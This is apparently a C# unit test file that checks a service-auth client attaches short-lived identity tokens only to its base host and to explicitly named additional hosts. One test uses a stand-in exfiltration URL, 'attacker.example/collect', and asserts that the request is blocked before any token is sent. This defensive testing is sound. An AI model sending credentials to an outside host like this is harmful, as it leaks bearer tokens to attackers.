using Amazon.Runtime;
using Microsoft.Extensions.DependencyInjection;
using ServiceAuth.Client.IdentityTokens;

namespace ServiceAuth.Client.Tests.IdentityTokens;

/// <summary>Issue 9 item 6 on the identity-token path: a token (a bearer credential for 15 minutes) goes only to the
/// client's BaseAddress host and its AdditionalHosts; any other host fails before sending.</summary>
public sealed class IdentityTokenHostBindingTests
{
    private readonly CapturingHandler _callee = new();

    [Fact]
    public async Task AbsoluteUriToAnotherHost_FailsBeforeSending_NoTokenLeaves()
    {
        using ServiceProvider services = Build(new Uri("https://orders.internal/"));

        var e = await Should.ThrowAsync<ServiceAuthException>(() => Client(services).GetAsync("https://attacker.example/collect"));

        e.Message.ShouldContain("attacker.example");
        e.Message.ShouldContain("AdditionalHosts");
        _callee.Requests.ShouldBeEmpty();
    }

    [Fact]
    public async Task BaseAddressHostAndAdditionalHosts_GetTheToken()
    {
        using ServiceProvider services = Build(new Uri("https://orders.internal/"), "ORDERS-2.internal");
        HttpClient client = Client(services);

        (await client.GetAsync("orders/1")).EnsureSuccessStatusCode();
        (await client.GetAsync("https://orders-2.internal/orders/1")).EnsureSuccessStatusCode();

        _callee.Requests.Count.ShouldBe(2);
    }

    [Fact]
    public async Task WithoutBaseAddress_NoHostGetsTheToken_UntilTheHostsAreNamed()
    {
        using ServiceProvider unbound = Build(null);
        using ServiceProvider named = Build(null, "anywhere.internal");

        var e = await Should.ThrowAsync<ServiceAuthException>(() => Client(unbound).GetAsync("https://anywhere.internal/x"));
        (await Client(named).GetAsync("https://anywhere.internal/x")).EnsureSuccessStatusCode();

        e.Message.ShouldContain("no host bound at startup");
        _callee.Requests.ShouldHaveSingleItem();
    }

    private static HttpClient Client(ServiceProvider services) => services.GetRequiredService<IHttpClientFactory>().CreateClient("orders");

    private ServiceProvider Build(Uri? baseAddress, params string[] additionalHosts)
    {
        var services = new ServiceCollection();
        services.AddHttpClient("orders", c => c.BaseAddress = baseAddress)
            .AddIamIdentityToken(o =>
            {
                o.Audience = "orders";
                o.StsRegion = "eu-west-1";
                o.Credentials = new BasicAWSCredentials("AKIDEXAMPLE", "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY");
                foreach (string host in additionalHosts)
                {
                    o.AdditionalHosts.Add(host);
                }
            })
            .ConfigurePrimaryHttpMessageHandler(() => _callee);
        return services.BuildServiceProvider();
    }
}
